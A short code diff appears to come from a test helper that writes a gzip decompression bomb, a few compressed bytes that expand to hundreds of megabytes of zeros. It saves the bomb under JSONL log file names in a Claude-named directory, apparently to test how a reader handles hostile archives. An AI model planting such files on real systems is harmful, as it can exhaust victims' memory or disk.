@@ -83,7 +83,7 @@ def elsewhere():
 def bomb():
     """Files of a few bytes that would be gigabytes for one who unpacks them."""
     squeeze = zlib.compressobj(9, wbits=31)
-    packed = b"".join(squeeze.compress(b"\0" * (16 << 20)) for _ in range(64)) + squeeze.flush()
+    packed = b"".join(squeeze.compress(b"\0" * (16 << 20)) for _ in range(16)) + squeeze.flush()
     for name in (ID + ".jsonl", ID + ".jsonl.gz", ID + ".jsonl.zst"):
         with open(CLAUDE + "/" + name, "wb") as f:
             f.write(packed)
